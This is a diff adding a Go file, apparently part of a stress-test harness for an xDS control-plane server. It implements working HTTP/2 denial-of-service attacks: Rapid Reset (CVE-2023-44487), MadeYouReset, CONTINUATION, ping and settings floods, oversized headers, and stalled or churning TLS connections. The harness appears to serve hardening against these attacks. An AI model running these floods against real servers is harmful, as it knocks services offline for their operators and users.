@@ -1,0 +1,246 @@
+package hostile
+
+import (
+	"crypto/tls"
+	"encoding/binary"
+	"fmt"
+	"strings"
+	"time"
+
+	"golang.org/x/net/http2"
+	"golang.org/x/net/http2/hpack"
+)
+
+// attacks by name. a.size is the number of connections, if nothing else is said.
+var attacks = map[string]func(a *assault){
+	// HTTP/2.
+	"rapid reset":              rapidReset,
+	"made-you-reset":           madeYouReset,
+	"pings":                    pings,
+	"settings":                 settings,
+	"window updates, unread":   windowUpdates,
+	"frames of no use":         uselessFrames,
+	"continuations":            continuations,
+	"large header lists":       largeHeaders,
+	"many small headers":       smallHeaders,
+	"silent connections":       silent,
+	"silent TLS connections":   silentTLS,
+	"connections without end":  churn,
+	"streams over the limit":   tooManyStreams,
+	"half requests":            halfRequests,
+	"half a request a minute":  slowRequests,
+	"compression bombs":        bombs,
+	"a million names at once":  namesAtOnce,
+	"a million names, by one":  namesByOne,
+	"nodes with own keys":      ownKeys,
+	"large nodes":              largeNodes,
+	"never reading":            neverReading,
+	"never acknowledging":      neverAcking,
+	"NACK loops":               nackLoops,
+	"nonces of others":         foreignNonces,
+	"asking again and again":   askingAgain,
+	"admin: slow headers":      adminSlow,
+	"admin: header floods":     adminHeaders,
+	"admin: slow bodies":       adminBodies,
+	"admin: all of everything": adminLists,
+	"REST: slow bodies":        restBodies,
+	"REST: rapid reset":        restReset,
+	"REST: polls of new nodes": restPolls,
+}
+
+// rapidReset is CVE-2023-44487: streams that are reset as soon as they are opened.
+func rapidReset(a *assault) {
+	a.flood(a.XDS, a.size, discards, nil, func(c *h2) int {
+		for range 50 {
+			_ = c.fr.WriteRSTStream(c.open(sotwPath, false), http2.ErrCodeCancel)
+		}
+		return 50
+	})
+}
+
+// madeYouReset has the server do the resetting (CVE-2025-8671).
+func madeYouReset(a *assault) {
+	faults := []func(c *h2, id uint32){
+		func(c *h2, id uint32) { c.raw(http2.FrameWindowUpdate, 0, id, make([]byte, 4)) }, // of nothing
+		func(c *h2, id uint32) { // more than there can be
+			c.raw(http2.FrameWindowUpdate, 0, id, binary.BigEndian.AppendUint32(nil, 1<<31-1))
+			c.raw(http2.FrameWindowUpdate, 0, id, binary.BigEndian.AppendUint32(nil, 1<<31-1))
+		},
+		func(c *h2, id uint32) { // DATA after its end
+			_ = c.fr.WriteData(id, true, nil)
+			_ = c.fr.WriteData(id, false, []byte("more"))
+		},
+		func(c *h2, id uint32) { c.raw(http2.FramePriority, 0, id, make([]byte, 4)) }, // too short
+		func(c *h2, id uint32) { _ = c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, EndHeaders: true}) },
+	}
+	a.flood(a.XDS, a.size, discards, nil, func(c *h2) int {
+		at := int(c.next/2) / 50 % (2 * len(faults)) // mostly those that keep the connection
+		for range 50 {
+			faults[min(at, len(faults)-1)%3](c, c.open(sotwPath, false))
+		}
+		if at == len(faults)+3 || at == len(faults)+4 {
+			faults[at-len(faults)](c, c.open(sotwPath, false))
+		}
+		return 50
+	})
+}
+
+func pings(a *assault) {
+	a.flood(a.XDS, a.size, discards, nil, func(c *h2) int {
+		for range 100 {
+			_ = c.fr.WritePing(false, [8]byte{})
+		}
+		return 100
+	})
+}
+
+func settings(a *assault) {
+	a.flood(a.XDS, a.size, discards, nil, func(c *h2) int {
+		for i := range 100 {
+			_ = c.fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(1000 + i)}, http2.Setting{ID: http2.SettingMaxHeaderListSize, Val: 1})
+		}
+		return 100
+	})
+}
+
+// windowUpdates fills what the server would have to write, and then has it queue.
+func windowUpdates(a *assault) {
+	begin := func(c *h2) {
+		for range 10 {
+			c.message(c.open(deltaPath, false), ask("w", "hostile"))
+		}
+		for range 1000 {
+			_ = c.fr.WritePing(false, [8]byte{})
+		}
+	}
+	a.flood(a.XDS, a.size, ignores, begin, func(c *h2) int {
+		for i := range 100 {
+			_ = c.fr.WriteWindowUpdate(uint32(i%10*2+1), 1)
+		}
+		return 100
+	})
+}
+
+// uselessFrames are those that cost more than they say: PRIORITY, empty DATA, and
+// kinds that nobody knows.
+func uselessFrames(a *assault) {
+	begin := func(c *h2) { c.message(c.open(deltaPath, false), ask("u", "hostile")) }
+	a.flood(a.XDS, a.size, discards, begin, func(c *h2) int {
+		for range 50 {
+			_ = c.fr.WritePriority(1, http2.PriorityParam{StreamDep: 3})
+			_ = c.fr.WriteData(1, false, nil)
+			c.raw(0xee, 0, 1, []byte("what?"))
+		}
+		return 150
+	})
+}
+
+// continuations are headers that never end.
+func continuations(a *assault) {
+	a.flood(a.XDS, a.size, discards, func(c *h2) {
+		_ = c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: c.headers(sotwPath)})
+	}, func(c *h2) int {
+		for range 100 {
+			c.block.Reset()
+			_ = c.enc.WriteField(hpack.HeaderField{Name: "x", Value: "y", Sensitive: true})
+			_ = c.fr.WriteContinuation(1, false, c.block.Bytes())
+		}
+		return 100
+	})
+}
+
+// largeHeaders are lists of megabytes, by a reference to what was said once.
+func largeHeaders(a *assault) {
+	large := strings.Repeat("h", 3000)
+	a.flood(a.XDS, a.size, discards, nil, func(c *h2) int {
+		more := make([]hpack.HeaderField, 2000)
+		for i := range more {
+			more[i] = hpack.HeaderField{Name: "x-large", Value: large}
+		}
+		c.open(sotwPath, false, more...)
+		return 1
+	})
+}
+
+func smallHeaders(a *assault) {
+	a.flood(a.XDS, a.size, discards, nil, func(c *h2) int {
+		more := make([]hpack.HeaderField, 20_000)
+		for i := range more {
+			more[i] = hpack.HeaderField{Name: fmt.Sprint("x-", i), Value: "1", Sensitive: true}
+		}
+		c.open(sotwPath, false, more...)
+		return 1
+	})
+}
+
+// silent are connections that say nothing, and that are there again when they
+// are closed.
+func silent(a *assault) {
+	a.each(a.size, func(int) error {
+		c, err := a.connect(a.XDS)
+		if err != nil {
+			return err
+		}
+		a.hit(1)
+		_, _ = c.Read(make([]byte, 1)) // the server's settings, or its end
+		_, _ = c.Read(make([]byte, 1<<10))
+		_, _ = c.Read(make([]byte, 1<<10))
+		return c.Close()
+	})
+}
+
+// silentTLS begins a handshake and does not go on.
+func silentTLS(a *assault) {
+	a.each(a.size, func(int) error {
+		c, err := a.connect(a.TLS)
+		if err != nil {
+			return err
+		}
+		_, _ = c.Write([]byte{22, 3, 1, 0x02, 0}) // a record of 512 bytes will follow
+		a.hit(1)
+		_, _ = c.Read(make([]byte, 1))
+		return c.Close()
+	})
+}
+
+// churn are connections that come, ask, and go; every fourth over TLS.
+func churn(a *assault) {
+	a.each(a.size, func(i int) error {
+		if i%4 == 0 {
+			c, err := a.connect(a.TLS)
+			if err != nil {
+				return err
+			}
+			defer func() { _ = c.Close() }()
+			_ = c.SetDeadline(time.Now().Add(5 * time.Second))
+			if tls.Client(c, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}}).HandshakeContext(a.ctx) == nil {
+				a.hit(1)
+			}
+			return nil
+		}
+		c, err := a.dial(a.XDS, discards)
+		if err != nil {
+			return err
+		}
+		defer c.close()
+		c.message(c.open(deltaPath, false), ask(fmt.Sprint("churn-", i), "hostile"))
+		if c.flush() == nil {
+			a.hit(1)
+		}
+		return nil
+	})
+}
+
+// tooManyStreams opens more streams than it may on one connection, and goes on.
+func tooManyStreams(a *assault) {
+	a.flood(a.XDS, a.size, discards, func(c *h2) {
+		for range 100 {
+			c.message(c.open(deltaPath, false), ask("s", "hostile"))
+		}
+	}, func(c *h2) int {
+		for range 50 {
+			c.open(deltaPath, false)
+		}
+		return 50
+	})
+}
